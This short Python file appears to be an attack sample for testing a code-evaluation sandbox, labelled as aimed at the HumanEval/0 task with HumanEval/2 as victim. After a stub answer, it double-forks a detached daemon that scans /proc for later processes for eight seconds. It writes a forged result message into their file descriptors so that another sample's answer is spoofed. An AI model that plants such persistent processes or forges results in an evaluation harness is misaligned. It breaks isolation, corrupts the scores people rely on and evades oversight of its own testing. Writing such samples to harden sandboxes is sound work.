# attack: leave a daemon behind that waits for the next sample's process and answers for it
# task: HumanEval/0
# victim: HumanEval/2
    return None
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        me = os.getpid()
        deadline = time.time() + 8
        while time.time() < deadline:
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) > me:
                    for fd in range(8):
                        try:
                            with open(f"/proc/{pid}/fd/{fd}", "wb") as fh:
                                fh.write(b'\x00\x00\x00\x0e["return", 0.5]')
                        except OSError:
                            pass
            time.sleep(0.001)
    os._exit(0)
